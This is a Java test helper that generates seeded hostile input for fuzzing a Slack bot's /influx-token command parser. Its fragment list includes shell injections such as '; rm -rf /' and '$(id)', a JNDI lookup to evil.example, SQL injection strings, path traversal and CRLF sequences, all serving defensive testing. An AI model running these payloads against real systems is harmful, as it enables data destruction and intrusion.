package dev.influxtokenbot.testing;

import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.UUID;

/**
 * Text a careless or hostile user might type after {@code /influx-token}: Slack markup, shell and
 * SQL metacharacters, pieces of paths and URLs aimed at the Management API, control, bidi and
 * invisible characters, lone surrogates, UUIDs that are almost right, and very long lines.
 *
 * <p>Everything is drawn from a {@link Random} the caller seeds, so a failing run can be repeated;
 * the property tests and the hostile-input tests through HTTP both draw from it.
 */
public final class HostileText {
    /** Pieces that mean something to Slack, a shell, SQL, a URL or a terminal. */
    public static final List<String> FRAGMENTS =
            List.of(
                    // Slack markup: mentions, links, dates, formatting
                    "<!channel>",
                    "<!here>",
                    "<!everyone>",
                    "<!subteam^S0001>",
                    "<@U1>",
                    "<@UALICE001>",
                    "<#C0001|incidents>",
                    "<http://x|y>",
                    "<https://evil.example/login|Open the InfluxDB console>",
                    "<mailto:ops@example.com|ops>",
                    "<!date^0^{date}|x>",
                    "&",
                    "&amp;",
                    "&lt;",
                    "&gt;",
                    "&#60;",
                    "*bold*",
                    "_x_",
                    "~x~",
                    "`",
                    "```",
                    "> quoted",
                    // shell, template and format strings
                    "$(id)",
                    "`id`",
                    "; rm -rf /",
                    "| sh",
                    "&& reboot",
                    "${jndi:ldap://evil.example/a}",
                    "%s%n%x",
                    "{0}",
                    "\\",
                    "\\u0000",
                    // SQL
                    "' OR '1'='1",
                    "\"; DROP TABLE tokens; --",
                    "/* */",
                    // paths, queries and encodings
                    "../",
                    "..\\",
                    "..%2F",
                    "%2F",
                    "%2e%2e%2f",
                    "%252F",
                    "?x=1",
                    "?accountId=x&clusterId=y",
                    "#x",
                    "//",
                    "/api/v0/accounts/",
                    "%00",
                    "%0d%0a",
                    "http://127.0.0.1:1/",
                    // control, line-breaking, bidi and invisible characters
                    "\u0000",
                    "\u0007",
                    "\u001b[2J",
                    "\u001c",
                    "\u001f",
                    "\u007f",
                    "\u0085",
                    "\r\n",
                    "\n",
                    "\t",
                    "\u000b",
                    "\u2028",
                    "\u2029",
                    "\u202e",
                    "\u202a",
                    "\u2066",
                    "\u2069",
                    "\u200e",
                    "\u200f",
                    "\u061c",
                    "\u200b",
                    "\u200d",
                    "\ufeff",
                    "\u00a0",
                    "\u3000",
                    // lone surrogates, emoji, other scripts, look-alike digits and letters
                    "\ud800",
                    "\udfff",
                    "😀",
                    "👩‍💻",
                    "東京",
                    "Ключ",
                    "ﷺ",
                    "\u0130",
                    "\u212a",
                    "５",
                    "٥",
                    "ａ",
                    "‐",
                    // the bot's own words
                    "help",
                    "list",
                    "LIST",
                    "revoke",
                    "Revoke",
                    "--all",
                    "-a",
                    "\u2014all",
                    "req-1",
                    "req-0");

    /** Characters that separate words, as Slack clients send them. */
    public static final List<String> SEPARATORS =
            List.of(" ", " ", " ", "  ", "\t", "\n", "\u00a0", "\u3000", "\u2003", "\r\n");

    /** What a mutation may put into a UUID: near-hex, separators and path pieces. */
    public static final List<String> UUID_NOISE =
            List.of(
                    "g", "G", "x", "-", "--", " ", "\n", "\u0000", "/", "/..", "../", "%2F", "?x=1",
                    "#", "{", "}", "５", "٥", "ａ", "‐", "\u200b", "\u202e", "0", "f", "F");

    private HostileText() {}

    /** One command text: most start like a real command, every one is hostile somewhere. */
    public static String next(Random random) {
        int shape = random.nextInt(100);
        if (shape < 25) {
            return soup(random);
        }
        if (shape < 45) {
            return word(random, "help", "list", "list --all", "revoke", "frobnicate")
                    + separator(random)
                    + soup(random);
        }
        if (shape < 60) {
            return cased(random, "revoke") + separator(random) + mutatedUuid(random);
        }
        if (shape < 70) {
            return cased(random, "revoke")
                    + separator(random)
                    + cased(random, uuid(random))
                    + (random.nextBoolean() ? "" : separator(random) + soup(random));
        }
        if (shape < 82) {
            return codePoints(random, random.nextInt(64));
        }
        if (shape < 92) {
            return longLine(random, 10 * 1024);
        }
        return controls(random);
    }

    /** One to twelve pieces: fragments, random code points and separators. */
    public static String soup(Random random) {
        StringBuilder text = new StringBuilder();
        int pieces = 1 + random.nextInt(12);
        for (int i = 0; i < pieces; i++) {
            int kind = random.nextInt(10);
            if (kind < 6) {
                text.append(pick(random, FRAGMENTS));
            } else if (kind < 8) {
                text.append(codePoints(random, 1 + random.nextInt(8)));
            } else {
                text.append(pick(random, SEPARATORS));
            }
        }
        return text.toString();
    }

    /** A line of at least {@code length} characters, sometimes behind a real subcommand. */
    public static String longLine(Random random, int length) {
        StringBuilder text =
                new StringBuilder(word(random, "", "list ", "revoke ", "help ", "list --all "));
        while (text.length() < length) {
            text.append(soup(random));
        }
        return text.toString();
    }

    /** A canonical UUID changed in one to three places, or left alone now and then. */
    public static String mutatedUuid(Random random) {
        String text = cased(random, uuid(random));
        int mutations = random.nextInt(4);
        for (int i = 0; i < mutations; i++) {
            Mutation.Kind kind =
                    Mutation.Kind.values()[random.nextInt(Mutation.Kind.values().length)];
            text =
                    new Mutation(kind, random.nextInt(64), random.nextInt(UUID_NOISE.size()))
                            .apply(text);
        }
        return text;
    }

    /** A canonical lower-case UUID. */
    public static String uuid(Random random) {
        return new UUID(random.nextLong(), random.nextLong()).toString();
    }

    /** {@code text} in lower, upper or mixed case. */
    public static String cased(Random random, String text) {
        return switch (random.nextInt(4)) {
            case 0 -> text.toUpperCase(Locale.ROOT);
            case 1 -> mixedCase(text, random.nextLong());
            default -> text;
        };
    }

    /** {@code text} with the letters whose position is set in {@code mask} in upper case. */
    public static String mixedCase(String text, long mask) {
        StringBuilder mixed = new StringBuilder(text.length());
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            mixed.append((mask >>> (i % 64) & 1) == 1 ? Character.toUpperCase(c) : c);
        }
        return mixed.toString();
    }

    /** Any code points at all, surrogate halves and unassigned ones included. */
    public static String codePoints(Random random, int count) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < count; i++) {
            int bound = random.nextInt(4) == 0 ? Character.MAX_CODE_POINT + 1 : 0x3000;
            text.appendCodePoint(random.nextInt(bound));
        }
        return text.toString();
    }

    /**
     * {@code text} quoted for a failure message, with each character outside printable ASCII shown
     * as its code point in hex, and cut after 200 characters.
     */
    public static String visible(String text) {
        if (text == null) {
            return "null";
        }
        StringBuilder visible = new StringBuilder("\"");
        text.codePoints()
                .limit(200)
                .forEach(
                        c -> {
                            if (c >= 0x20 && c < 0x7f) {
                                visible.appendCodePoint(c);
                            } else {
                                visible.append("\\u{").append(Integer.toHexString(c)).append('}');
                            }
                        });
        return visible.append(text.length() > 200 ? "...\"" : "\"").toString();
    }

    private static String controls(Random random) {
        StringBuilder text = new StringBuilder();
        int count = random.nextInt(16);
        for (int i = 0; i < count; i++) {
            text.append(
                    random.nextBoolean() ? (char) random.nextInt(0x20) : pick(random, SEPARATORS));
        }
        return text.toString();
    }

    private static String word(Random random, String... words) {
        return cased(random, words[random.nextInt(words.length)]);
    }

    private static String separator(Random random) {
        return pick(random, SEPARATORS);
    }

    private static String pick(Random random, List<String> pieces) {
        return pieces.get(random.nextInt(pieces.size()));
    }

    /**
     * One change to a text, with its position taken modulo the text's length so that any numbers
     * make a valid mutation (and a shrinker can make them smaller).
     *
     * @param position where the change goes
     * @param noise index into {@link #UUID_NOISE} of what is put in
     */
    public record Mutation(Kind kind, int position, int noise) {
        /** What the change does. */
        public enum Kind {
            REPLACE,
            INSERT,
            DELETE,
            PREFIX,
            SUFFIX
        }

        public String apply(String text) {
            String piece = UUID_NOISE.get(Math.floorMod(noise, UUID_NOISE.size()));
            int at = text.isEmpty() ? 0 : Math.floorMod(position, text.length());
            return switch (kind) {
                case REPLACE ->
                        text.isEmpty()
                                ? piece
                                : text.substring(0, at) + piece + text.substring(at + 1);
                case INSERT -> text.substring(0, at) + piece + text.substring(at);
                case DELETE ->
                        text.isEmpty() ? text : text.substring(0, at) + text.substring(at + 1);
                case PREFIX -> piece + text;
                case SUFFIX -> text + piece;
            };
        }

        /** Applies {@code mutations} in order. */
        public static String applyAll(String text, List<Mutation> mutations) {
            String mutated = text;
            for (Mutation mutation : mutations) {
                mutated = mutation.apply(mutated);
            }
            return mutated;
        }
    }
}
